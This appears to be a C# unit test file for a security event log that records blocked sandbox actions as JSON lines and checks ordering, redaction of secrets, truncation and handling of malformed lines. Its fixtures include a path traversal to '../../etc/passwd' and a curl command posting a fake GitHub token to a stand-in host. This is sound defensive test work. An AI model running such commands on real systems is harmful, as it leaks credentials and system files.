using System.Text.Json;
using Flywheel.Storage.Logs;
using Flywheel.Storage.Security;

namespace Flywheel.Storage.Tests.Security;

public sealed class SecurityLogTests : IDisposable
{
    private static readonly DateTimeOffset Now = new DateTimeOffset(2026, 3, 1, 12, 30, 45, 678, TimeSpan.FromHours(1)).AddTicks(1234);

    private readonly TemporaryFolder _folder = new();
    private readonly SecurityLog _log;

    public SecurityLogTests() => _log = new SecurityLog(new AppendLog(File), new StoppedClock());

    private string File => _folder["security_events.jsonl"];

    private static SecurityEvent Happened { get; } = new()
    {
        RunId = "20260301T113000_0a1b2c3d",
        Type = "path",
        Layer = "path_sandbox",
        Target = "file_write",
        Severity = SecuritySeverity.Block,
        Caller = "run",
        Rule = "outside_workspace",
        Reason = "The path leaves the workspace.",
        Resource = "../../etc/passwd",
        ResourceSha256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        Action = "refused",
        Offset = 12,
        Length = 16,
    };

    public void Dispose() => _folder.Dispose();

    [Fact]
    public void An_event_is_written_with_its_id_and_time_in_the_documented_form()
    {
        var written = _log.Record(Happened);

        written.EventId.ShouldMatch("^e_20260301T113045_[0-9a-f]{8}$");
        using var line = JsonDocument.Parse(System.IO.File.ReadAllText(File));
        var fields = line.RootElement.EnumerateObject().ToDictionary(static field => field.Name, static field => field.Value.ToString(), StringComparer.Ordinal);
        fields.ShouldBe(
            new Dictionary<string, string>(StringComparer.Ordinal)
            {
                ["event_id"] = written.EventId,
                ["timestamp"] = "2026-03-01T11:30:45.678Z",
                ["run_id"] = "20260301T113000_0a1b2c3d",
                ["type"] = "path",
                ["layer"] = "path_sandbox",
                ["target"] = "file_write",
                ["severity"] = "block",
                ["caller"] = "run",
                ["rule"] = "outside_workspace",
                ["reason"] = "The path leaves the workspace.",
                ["resource"] = "../../etc/passwd",
                ["resource_sha256"] = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
                ["action"] = "refused",
                ["offset"] = "12",
                ["length"] = "16",
            },
            ignoreOrder: true);
    }

    [Fact]
    public void Events_are_read_back_in_order()
    {
        var written = new[] { SecuritySeverity.Info, SecuritySeverity.Warn, SecuritySeverity.Block }
            .Select(severity => _log.Record(Happened with { Severity = severity, RunId = null, Offset = null })).ToList();
        _log.Read().ToList().ShouldBe(written);
        written.Select(static happened => happened.EventId).Distinct(StringComparer.Ordinal).Count().ShouldBe(3);
    }

    [Fact]
    public void What_it_quotes_is_redacted()
    {
        const string Secret = "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
        var written = _log.Record(Happened with { Reason = $"It sends {Secret}.", Resource = $"curl -d {Secret} https://example.org" });
        written.Reason.ShouldBe("It sends [redacted:github_token].");
        written.Resource.ShouldBe("curl -d [redacted:github_token] https://example.org");
        System.IO.File.ReadAllText(File).ShouldNotContain(Secret);
    }

    [Fact]
    public void A_long_resource_is_shortened_after_it_is_redacted_and_never_within_a_character()
    {
        var written = _log.Record(Happened with { Resource = new string('x', 1999) + "\U0001F600" + new string('y', 500) });
        written.Resource.ShouldBe(new string('x', 1999) + "… (2501 characters)");
        _log.Record(Happened with { Resource = new string('x', 2000) }).Resource.Length.ShouldBe(2000);
        var secret = "sk-" + string.Concat(Enumerable.Repeat("a1B2", 30));
        _log.Record(Happened with { Resource = new string('x', 1950) + " " + secret }).Resource.ShouldNotContain("sk-");
    }

    [Fact]
    public void A_resource_that_is_no_Unicode_is_logged_all_the_same()
    {
        var written = _log.Record(Happened with { Resource = "half \ud83d pair\nand a line break" });
        written.Resource.ShouldBe("half \ufffd pair\nand a line break");
        _log.Read().Single().ShouldBe(written);
    }

    [Fact]
    public void A_line_that_can_not_be_read_is_reported_and_the_others_are_read()
    {
        var first = _log.Record(Happened);
        System.IO.File.AppendAllText(File, "{\"event_id\":\"e\"}\nnull\n{\"severity\":\"grave\"");
        var last = _log.Record(Happened);
        var invalid = new List<InvalidLine>();
        _log.Read(invalid.Add).ToList().ShouldBe([first, last]);
        invalid.Count.ShouldBe(3);
        _log.Read().Count().ShouldBe(2);
    }

    [Fact]
    public void Unknown_fields_are_ignored()
    {
        _log.Record(Happened);
        var line = System.IO.File.ReadAllText(File);
        System.IO.File.WriteAllText(File, line.Replace("{\"event_id\"", "{\"later\":{\"x\":1},\"event_id\"", StringComparison.Ordinal));
        _log.Read(static line => Assert.Fail(line.Reason)).Count().ShouldBe(1);
    }

    [Fact]
    public void An_empty_log_has_no_events() => _log.Read().ShouldBeEmpty();

    private sealed class StoppedClock : TimeProvider
    {
        public override DateTimeOffset GetUtcNow() => Now;
    }
}
